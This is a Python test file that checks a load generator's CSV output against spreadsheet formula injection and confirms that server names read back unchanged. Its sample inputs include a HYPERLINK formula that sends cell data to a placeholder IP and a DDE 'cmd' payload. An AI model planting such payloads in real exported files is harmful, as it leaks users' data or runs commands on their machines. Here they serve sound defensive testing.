"""No cell of a table is run by a spreadsheet that opens it, and whoever reads it gets what was meant."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some

from loadgen.cells import cell, plain
from loadgen.record import Recorder
from loadgen.result import Answer, Result
from pipeline.runs.tables import read_requests

NAMES = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\uff1d1+1",
    "blue;=1+1",
    "'=1+1",
    "o'clock",
    "blue",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_servers_name_is_no_formula_in_the_requests_table_and_is_read_as_it_was(
    name: str, tmp_path: Path
) -> None:
    file = tmp_path / "requests.csv"
    recorder = Recorder(file)
    recorder.start(0.0)
    recorder.add(Result(0.0, 10, 2000, Answer(1.0, status=200, size=5, served_by=name), 0))
    recorder.close()
    with file.open(newline="") as lines:
        (written,) = csv.DictReader(lines)
    for part in written["served_by"].split(";"):
        assert part[0] not in "=+-@\t\uff1d"
    rows = read_requests(file)
    assert rows.served_by.tolist() == [name]
    assert rows.latency.tolist() == [0.002]


@given(some.text("=+-@';,\t\r\n|ab\uff0d", max_size=8))
def test_whatever_is_marked_is_given_back(text: str) -> None:
    assert plain(cell(text)) == text
    assert cell(text)[:1] not in set("=+-@\t\r\n\uff0d")
